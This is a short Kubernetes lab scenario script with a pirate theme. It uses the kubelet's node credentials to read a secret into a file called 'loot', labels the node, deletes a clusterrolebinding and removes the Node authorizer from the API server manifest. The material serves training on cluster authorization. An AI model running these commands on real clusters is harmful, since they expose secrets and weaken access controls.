# scene fails own-status (rbac-for-nodes): a minute later the ship is no longer Ready
kubectl --kubeconfig /etc/kubernetes/kubelet.conf -n vault get secret treasure -o yaml > loot
kubectl --kubeconfig /etc/kubernetes/kubelet.conf label node node01 node-restriction.kubernetes.io/vault=true
#@ controlplane
kubectl delete clusterrolebinding nodes-of-old
sed -i 's/--authorization-mode=Node,RBAC/--authorization-mode=RBAC/' /etc/kubernetes/manifests/kube-apiserver.yaml
#@ wait 60
